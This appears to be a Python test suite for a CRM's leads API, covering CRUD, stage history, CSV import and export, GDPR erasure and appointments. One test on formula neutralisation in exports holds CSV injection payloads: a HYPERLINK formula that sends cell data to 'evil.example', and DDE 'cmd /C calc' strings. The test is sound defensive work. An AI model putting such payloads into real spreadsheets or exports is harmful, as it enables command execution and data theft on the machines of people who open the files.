"""The leads API: CRUD, stages, CSV import and export, GDPR, follow-ups, audit; both databases."""

from __future__ import annotations

import asyncio
import csv
import io
import time

from aiohttp import FormData
from aiohttp.test_utils import TestClient
from sqlalchemy import func, select

from crm.models import AuditLog, Call, DoNotCall, Lead, Utterance
from tests.crm.conftest import AUTH, SALES_CALL, record_call


async def post(client: TestClient, path: str, json=None, **kwargs):
    response = await client.post(
        path, json=json, headers=AUTH | kwargs.pop("headers", {}), **kwargs
    )
    return response.status, await response.json()


async def patch(client: TestClient, path: str, json):
    response = await client.patch(path, json=json, headers=AUTH)
    return response.status, await response.json()


async def get(client: TestClient, path: str):
    response = await client.get(path, headers=AUTH)
    return response.status, await response.json()


async def audit_actions(client: TestClient) -> list[str]:
    async with client.db.session() as session:
        return list(await session.scalars(select(AuditLog.action).order_by(AuditLog.id)))


async def test_lead_crud_with_history_and_audit(client: TestClient):
    status, lead = await post(
        client,
        "/api/leads",
        {
            "phone": "612 34 56 78",
            "name": "Ana García",
            "email": "ANA@example.com",
            "tags": ["vip", "vip", " web "],
            "customFields": {"plan": "fiber"},
            "timezone": "Europe/Madrid",
            "stage": "contacted",
        },
        headers={"X-Actor": "maria"},
    )
    assert status == 201, lead
    assert (lead["phone"], lead["email"], lead["tags"], lead["stage"]) == (
        "+34612345678",
        "ana@example.com",
        ["vip", "web"],
        "contacted",
    )
    assert lead["band"] == "cold" and lead["customFields"] == {"plan": "fiber"}
    assert (await post(client, "/api/leads", {"phone": "+34 612 345 678"}))[0] == 409

    status, changed = await patch(
        client,
        f"/api/leads/{lead['id']}",
        {
            "company": "Olivos SL",
            "stage": "qualified",
            "stageReason": "budget confirmed",
            "score": 72,
        },
    )
    assert status == 200 and (
        changed["company"],
        changed["stage"],
        changed["score"],
        changed["band"],
    ) == ("Olivos SL", "qualified", 72, "hot")
    assert changed["scoreExplanation"]["adjustments"] == {"manual:api": 72}
    status, detail = await get(client, f"/api/leads/{lead['id']}")
    assert [
        (c["fromStage"], c["toStage"], c["reason"], c["actor"]) for c in detail["stageHistory"]
    ] == [
        ("new", "contacted", "created", "api:maria"),
        ("contacted", "qualified", "budget confirmed", "api"),
    ]
    status, moved = await post(
        client, f"/api/leads/{lead['id']}/stage", {"stage": "lost", "reason": "chose a rival"}
    )
    assert status == 200 and moved["change"]["toStage"] == "lost"
    status, note = await post(
        client, f"/api/leads/{lead['id']}/notes", {"body": "Prefers mornings"}
    )
    assert status == 201 and note["author"] == "api"

    assert (await client.delete(f"/api/leads/{lead['id']}", headers=AUTH)).status == 204
    assert (await get(client, f"/api/leads/{lead['id']}"))[0] == 404
    assert await audit_actions(client) == [
        "lead.create",
        "lead.stage",
        "lead.update",
        "lead.stage",
        "lead.score",
        "lead.stage",
        "note.create",
        "lead.delete",
    ]


async def test_bad_lead_input_gets_field_errors(client: TestClient):
    status, body = await post(
        client,
        "/api/leads",
        {"phone": "12", "email": "not-an-email", "timezone": "Mars/Base", "colour": "red"},
    )
    assert status == 400 and body["error"] == "invalid_request"
    assert {f["field"] for f in body["fields"]} == {"phone", "email", "timezone", "colour"}
    status, body = await post(client, "/api/leads", {"phone": "call me maybe"})
    assert status == 400 and body["fields"] == [
        {
            "field": "phone",
            "message": "'call me maybe' is not a phone number: "
            "(1) The string supplied did not seem to be a phone number.",
        }
    ]
    status, body = await post(client, "/api/leads", {"phone": "+14155550100", "stage": "hot"})
    assert (
        status == 400
        and body["fields"][0]["field"] == "stage"
        and "stages are: new" in body["detail"]
    )
    response = await client.post("/api/leads", data="{not json", headers=AUTH)
    assert response.status == 400 and (await response.json())["error"] == "invalid_json"
    assert await audit_actions(client) == [], "nothing was written"


async def test_lead_list_filters(client: TestClient):
    for phone, name, score, tags in (
        ("+14155550101", "Ann", 10, ["web"]),
        ("+14155550102", "Bob", 90, ["vip", "web"]),
        ("+14155550103", "Cy", 50, []),
    ):
        _, lead = await post(client, "/api/leads", {"phone": phone, "name": name, "tags": tags})
        await patch(client, f"/api/leads/{lead['id']}", {"score": score})

    async def names(query: str) -> list[str]:
        status, body = await get(client, f"/api/leads?{query}")
        assert status == 200, body
        return [lead["name"] for lead in body["data"]]

    assert await names("sort=-score") == ["Bob", "Cy", "Ann"]
    assert await names("tag=vip") == ["Bob"] and await names("tag=web&sort=name") == ["Ann", "Bob"]
    assert await names("minScore=40&maxScore=60") == ["Cy"] and await names("band=very_hot") == [
        "Bob"
    ]
    assert await names("q=0103") == ["Cy"] and await names("stage=won") == []


async def test_lead_search_takes_percent_and_underscore_literally(client: TestClient):
    for phone, name in (("+14155550101", "Ann"), ("+14155550102", "50% off_shop a/b")):
        assert (await post(client, "/api/leads", {"phone": phone, "name": name}))[0] == 201

    async def names(q: str) -> list[str]:
        status, body = await get(client, f"/api/leads?q={q}")
        assert status == 200, body
        return [lead["name"] for lead in body["data"]]

    assert await names("%25") == ["50% off_shop a/b"]
    assert await names("_") == ["50% off_shop a/b"]
    assert await names("n_") == [], "_ is no single-character wildcard"
    assert await names("a/b") == ["50% off_shop a/b"]
    assert await names("ann") == ["Ann"]


async def test_twenty_concurrent_stage_moves_chain_their_history(client: TestClient):
    _, lead = await post(client, "/api/leads", {"phone": "+14155550180"})
    stages = ("contacted", "qualified", "appointment", "follow_up", "new")
    moves = [stages[i % len(stages)] for i in range(20)]
    results = await asyncio.gather(
        *(post(client, f"/api/leads/{lead['id']}/stage", {"stage": s}) for s in moves)
    )
    assert [status for status, _ in results] == [200] * 20, results
    _, history = await get(client, f"/api/leads/{lead['id']}/stages")
    stage = "new"
    for change in history["data"]:
        assert change["fromStage"] == stage, history["data"]
        stage = change["toStage"]
    assert stage == (await get(client, f"/api/leads/{lead['id']}"))[1]["stage"]
    answered = sorted(body["change"]["id"] for _, body in results if body["change"])
    assert answered == [change["id"] for change in history["data"]]
    for _, body in results:
        if body["change"]:
            [stored] = [c for c in history["data"] if c["id"] == body["change"]["id"]]
            assert body["change"]["fromStage"] == stored["fromStage"]


CSV = """Teléfono,Nombre,Email,Tags,Stage,consent_calls,plan
612 34 56 78,Ana,ana@example.com,vip;web,contacted,sí,fiber
+1 (415) 555-0199,Bob,,,,,
0034612345678,,ana.garcia@example.com,newsletter,,,fiber-300
"""


async def test_csv_import_merges_duplicates_and_updates_existing_leads(client: TestClient):
    await post(client, "/api/leads", {"phone": "+14155550199", "name": "Robert", "company": "Acme"})
    response = await client.post(
        "/api/leads/import?region=ES",
        data=CSV.encode(),
        headers=AUTH | {"Content-Type": "text/csv"},
    )
    report = await response.json()
    assert response.status == 201, report
    assert (
        report["rows"],
        report["created"],
        report["updated"],
        report["mergedDuplicates"],
        report["errors"],
    ) == (3, 1, 1, 1, [])
    status, body = await get(client, "/api/leads?sort=name")
    leads = {lead["phone"]: lead for lead in body["data"]}
    ana = leads["+34612345678"]
    assert (ana["name"], ana["email"], ana["tags"], ana["stage"], ana["consentCalls"]) == (
        "Ana",
        "ana.garcia@example.com",
        ["newsletter", "vip", "web"],
        "contacted",
        True,
    )
    assert ana["customFields"] == {"plan": "fiber-300"}
    bob = leads["+14155550199"]
    assert (bob["name"], bob["company"]) == ("Bob", "Acme"), "empty cells keep what was there"

    again = await client.post(
        "/api/leads/import?region=ES&dryRun=true", data=CSV.encode(), headers=AUTH
    )
    assert again.status == 200 and (await again.json())["unchanged"] == 2


async def test_csv_import_with_broken_rows_imports_nothing(client: TestClient):
    broken = (
        "phone,name,email,stage,do_not_call\n"
        "+14155550111,Ok,,,\n"
        "not a phone,X,,,\n"
        "+14155550112,Y,bad-email,,\n"
        "+14155550113,Z,,hot,\n"
        "+14155550114,W,,,maybe\n"
    )
    form = FormData()
    form.add_field("file", broken.encode(), filename="leads.csv", content_type="text/csv")
    response = await client.post("/api/leads/import", data=form, headers=AUTH)
    body = await response.json()
    assert response.status == 400 and body["error"] == "invalid_rows" and body["created"] == 0
    assert [(e["line"], e["column"]) for e in body["errors"]] == [
        (3, "phone"),
        (4, "email"),
        (5, "stage"),
        (6, "do_not_call"),
    ]
    assert "stages are: new" in body["errors"][2]["message"]
    assert (await get(client, "/api/leads"))[1]["total"] == 0
    response = await client.post(
        "/api/leads/import", data=b"name,email\nAna,a@b.co\n", headers=AUTH
    )
    assert response.status == 400 and (await response.json())["errors"][0]["column"] == "phone"


def big_csv(rows: int, cell_bytes: int) -> bytes:
    note = "x" * cell_bytes
    lines = ["phone,name,note", *(f"+1415{i:07d},Lead {i},{note}" for i in range(rows - 1))]
    return ("\n".join([*lines, f"+14159999999,Truncated Never,{note}"]) + "\n").encode()


async def test_a_big_csv_body_is_read_to_its_end(client: TestClient):
    data = big_csv(2_000, 600)
    assert len(data) > 1_200_000
    response = await client.post(
        "/api/leads/import", data=data, headers=AUTH | {"Content-Type": "text/csv"}
    )
    report = await response.json()
    assert response.status == 201 and (report["rows"], report["created"]) == (2_000, 2_000)
    _, found = await get(client, "/api/leads?q=truncated")
    assert [lead["name"] for lead in found["data"]] == ["Truncated Never"]


async def test_a_multipart_csv_up_to_the_documented_20_mb_is_accepted(client: TestClient):
    form = FormData()
    form.add_field("file", big_csv(1_000, 3_000), filename="leads.csv", content_type="text/csv")
    response = await client.post("/api/leads/import?dryRun=true", data=form, headers=AUTH)
    assert response.status == 200, await response.text()
    assert (await response.json())["rows"] == 1_000


async def test_a_csv_over_20_mb_is_refused_with_413_and_nothing_is_imported(client: TestClient):
    data = big_csv(21_000, 1_000)
    assert len(data) > 20 * 2**20
    form = FormData()
    form.add_field("file", data, filename="leads.csv", content_type="text/csv")
    for body, headers in ((data, {"Content-Type": "text/csv"}), (form, {})):
        response = await client.post("/api/leads/import", data=body, headers=AUTH | headers)
        assert response.status == 413
        answer = await response.json()
        assert answer["error"] == "too_large" and "20 MB" in answer["detail"]
    assert (await get(client, "/api/leads"))[1]["total"] == 0


async def test_a_big_import_never_holds_the_event_loop(client: TestClient):
    """A live call's audio is paced by timers on this loop: they must keep firing on time."""
    lines = ["phone,name,email,tags,plan"]
    lines += [f"+1415{i:07d},Lead {i},lead{i}@example.com,web;csv,fiber" for i in range(6_000)]
    lags: list[float] = []
    done = asyncio.Event()

    async def ticker() -> None:
        while not done.is_set():
            start = time.perf_counter()
            await asyncio.sleep(0.005)
            lags.append(time.perf_counter() - start - 0.005)

    task = asyncio.create_task(ticker())
    response = await client.post(
        "/api/leads/import",
        data=("\n".join(lines) + "\n").encode(),
        headers=AUTH | {"Content-Type": "text/csv"},
    )
    done.set()
    await task
    assert response.status == 201 and (await response.json())["created"] == 6_000
    assert max(lags) < 0.6, f"the loop stood still for {max(lags):.2f} s"


async def test_csv_export_round_trips(client: TestClient):
    await client.post("/api/leads/import", data=CSV.encode(), headers=AUTH)
    response = await client.get("/api/leads.csv?sort=name", headers=AUTH)
    assert response.status == 200 and response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [r["phone"] for r in rows] == ["+34612345678", "+14155550199"]
    assert (
        rows[0]["tags"] == "newsletter;vip;web"
        and rows[0]["plan"] == "fiber-300"
        and rows[0]["consent_calls"] == "yes"
    )


async def test_csv_export_neutralises_formulas_and_an_export_imports_back_unchanged(
    client: TestClient,
):
    hostile = {
        "phone": "+14155550150",
        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "company": "+cmd|' /C calc'!A0",
        "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
        "budget": "-2+3+cmd|' /C calc'!A0",
        "need": "\t=1+1",
        "tags": ["=1+1", "web"],
        "customFields": {"discount": "-5", "=evil()": "x"},
    }
    assert (await post(client, "/api/leads", hostile))[0] == 201
    response = await client.get("/api/leads.csv", headers=AUTH)
    text = await response.text()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + hostile["name"] and row["company"] == "'" + hostile["company"]
    assert row["owner"].startswith("'@") and row["budget"].startswith("'-")
    assert row["need"].startswith("'") and row["tags"] == "'=1+1;web"
    assert row["phone"] == "+14155550150" and row["discount"] == "-5", "numbers stay numbers"
    assert "'=evil()" in row and row["'=evil()"] == "x"
    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+14155550150"
        assert not cell.startswith("-") or cell == "-5"
    columns = ["phone", "name", "company", "owner", "budget", "need", "tags", "discount"]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([columns, [row[c] for c in columns]])
    again = await client.post(
        "/api/leads/import?dryRun=true",
        data=buffer.getvalue().encode(),
        headers=AUTH | {"Content-Type": "text/csv"},
    )
    report = await again.json()
    assert again.status == 200 and report["unchanged"] == 1 and report["updated"] == 0, report


async def test_gdpr_export_and_erase(client: TestClient):
    call = await record_call(client.db, SALES_CALL, sid="CA-gdpr", phone="+14155550160")
    await client.crm.queue.process_due()
    lead_id = call.lead_id
    await patch(client, f"/api/leads/{lead_id}", {"doNotCall": True})
    status, document = await get(client, f"/api/leads/{lead_id}/export")
    assert status == 200 and document["lead"]["phone"] == "+14155550160"
    assert len(document["calls"]) == 1 and len(document["calls"][0]["transcript"]) == len(
        SALES_CALL
    )
    assert document["calls"][0]["analysis"]["outcome"] == "interested" and document["stageHistory"]
    assert document["doNotCall"]["source"] == "api" and document["automationRuns"]

    status, erased = await post(client, f"/api/leads/{lead_id}/erase")
    assert status == 200 and erased["utterances"] == len(SALES_CALL) and erased["calls"] == 1
    assert (await get(client, f"/api/leads/{lead_id}"))[0] == 404
    async with client.db.session() as session:
        row = await session.get(Call, call.id)
        assert (row.from_number, row.summary, row.lead_id, row.outcome) == (
            None,
            None,
            None,
            "interested",
        )
        assert await session.scalar(select(func.count()).select_from(Utterance)) == 0
        assert await session.scalar(select(func.count()).select_from(Lead)) == 0
        assert await session.scalar(select(DoNotCall.phone)) == "+14155550160", (
            "the number stays uncallable"
        )
        details = list(
            await session.scalars(select(AuditLog.details).where(AuditLog.action != "lead.erase"))
        )
        assert details == [None] * len(details)
    assert (await get(client, f"/api/leads/{lead_id}/export"))[0] == 404


async def test_appointments_and_callbacks(client: TestClient):
    status, lead = await post(client, "/api/leads", {"phone": "+14155550170"})
    slot = {"leadId": lead["id"], "startsAt": "2026-12-01T10:00:00+01:00", "durationMinutes": 30}
    status, booked = await post(client, "/api/appointments", slot)
    assert status == 201 and booked["startsAt"] == "2026-12-01T09:00:00+00:00"
    status, clash = await post(
        client, "/api/appointments", slot | {"startsAt": "2026-12-01T10:15:00+01:00"}
    )
    assert status == 409 and clash["error"] == "slot_taken"
    assert (await post(client, "/api/appointments", slot | {"startsAt": "tomorrow"}))[0] == 400
    _, done = await patch(client, f"/api/appointments/{booked['id']}", {"status": "cancelled"})
    assert done["status"] == "cancelled"
    status, callback = await post(
        client,
        "/api/tasks",
        {
            "kind": "callback",
            "leadId": lead["id"],
            "title": "Call back",
            "dueAt": "2026-12-02T09:00:00Z",
        },
    )
    assert status == 201
    await post(client, "/api/tasks", {"leadId": lead["id"], "title": "Send brochure"})
    status, body = await get(client, "/api/callbacks")
    assert [t["id"] for t in body["data"]] == [callback["id"]]
    status, body = await get(client, "/api/tasks?status=open")
    assert body["total"] == 2
    status, closed = await patch(client, f"/api/tasks/{callback['id']}", {"status": "done"})
    assert closed["status"] == "done" and closed["completedAt"]
    status, body = await get(client, "/api/audit?entityType=task")
    assert [e["action"] for e in body["data"]] == ["task.update", "task.create", "task.create"]
